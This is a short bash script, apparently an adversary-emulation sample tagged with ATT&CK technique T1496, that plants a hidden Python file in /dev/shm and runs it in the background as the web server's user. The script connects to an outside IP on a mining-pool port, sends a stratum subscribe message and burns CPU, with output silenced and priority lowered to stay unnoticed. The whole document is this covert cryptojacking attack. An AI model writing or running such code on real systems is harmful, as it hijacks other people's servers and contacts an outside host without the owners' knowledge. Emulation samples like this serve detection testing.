#!/bin/bash
# T1496: A web server's user reckons for a pool, quietly.
cat >/dev/shm/.w.py <<'P'
import socket,hashlib
s=socket.create_connection(("44.128.66.66",3333))
s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n'); s.recv(64)
for i in range(200000): hashlib.sha256(b'%d'%i).digest()
P
chmod 644 /dev/shm/.w.py; setpriv --reuid 33 --regid 33 --clear-groups nohup nice -n 19 python3 /dev/shm/.w.py >/dev/null 2>&1
